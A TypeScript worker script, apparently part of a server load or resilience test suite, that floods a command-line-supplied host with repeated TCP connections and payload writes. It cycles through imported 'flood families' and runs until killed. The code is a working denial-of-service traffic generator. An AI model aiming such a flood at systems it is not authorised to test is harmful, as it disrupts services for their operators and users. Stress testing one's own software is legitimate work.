/**
 * Floods of one family, or of each in turn, in a process of its own: is told on the command line whom to attack, and goes
 * on until it is killed.
 */
import { connect } from 'node:net'
import { setPriority } from 'node:os'
import { setTimeout as pause } from 'node:timers/promises'
import { FLOOD_FAMILIES, type FloodFamily, IN_TURN } from './flood-families.ts'

const [url = '', name = '', token = '', localAddress = ''] = process.argv.slice(2)
const { hostname: host, port } = new URL(url)
const EACH_FOR_MS = 5_000
/** A lane that cuts connections at once is not asked faster. */
const AGAIN_MS = 20

/** Until what it returns is disposed. */
function flood({ connections, first, bytes, timesEach }: FloodFamily): Disposable {
  const [opening, more] = [first?.(token), bytes(token)]
  let isOver = false
  const open = new Set<Disposable>()

  function connectOnce(): void {
    if (isOver) return
    let left = timesEach ?? Number.POSITIVE_INFINITY
    const socket = connect({ host, port: Number(port), ...(localAddress && { localAddress }) })
    const end = { [Symbol.dispose]: () => void socket.destroy() }
    open.add(end)
    const send = () => {
      do left -= 1
      while (socket.writable && socket.write(more) && left > 0)
    }
    socket.on('error', () => {}).on('drain', () => left > 0 && send())
    socket.resume().on('close', () => {
      open.delete(end)
      setTimeout(connectOnce, timesEach ? 0 : AGAIN_MS)
    })
    socket.on('connect', () => {
      if (opening) socket.write(opening)
      send()
    })
  }

  for (let count = 0; count < connections; count += 1) connectOnce()
  return {
    [Symbol.dispose]() {
      isOver = true
      for (const one of open) one[Symbol.dispose]()
    },
  }
}

const chosen = FLOOD_FAMILIES.filter((one) => name === IN_TURN || one.name === name)
if (chosen.length === 0) throw new Error(`no family of floods is called ${name}`)
// What it takes of this machine the till and whoever measures would wait for, too.
setPriority(19)
console.log('begun')
for (let at = 0; ; at += 1) {
  const family = chosen[at % chosen.length]
  if (!family) break
  using _ = flood(family)
  await pause(EACH_FOR_MS)
  // One family goes on as it began.
  while (chosen.length === 1) await pause(EACH_FOR_MS)
}
